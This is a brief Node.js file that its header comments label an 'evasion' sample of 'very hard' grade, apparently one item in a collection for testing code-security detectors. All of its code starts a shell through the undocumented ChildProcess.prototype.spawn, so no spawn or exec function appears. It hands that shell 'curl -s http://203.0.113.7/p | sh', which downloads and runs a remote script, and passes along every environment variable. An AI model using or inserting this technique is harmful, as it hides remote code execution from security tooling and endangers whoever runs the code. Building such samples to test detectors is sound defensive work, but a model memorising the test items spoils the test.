// evasion: a shell started through the undocumented ChildProcess.prototype.spawn, no spawn/exec function called
// grade: very hard; does: shell
const { ChildProcess } = require('child_process');

const child = new ChildProcess();
child.spawn({
  file: '/bin/sh',
  args: ['sh', '-c', 'curl -s http://203.0.113.7/p | sh'],
  stdio: 'inherit',
  envPairs: Object.entries(process.env).map(([k, v]) => `${k}=${v}`),
});
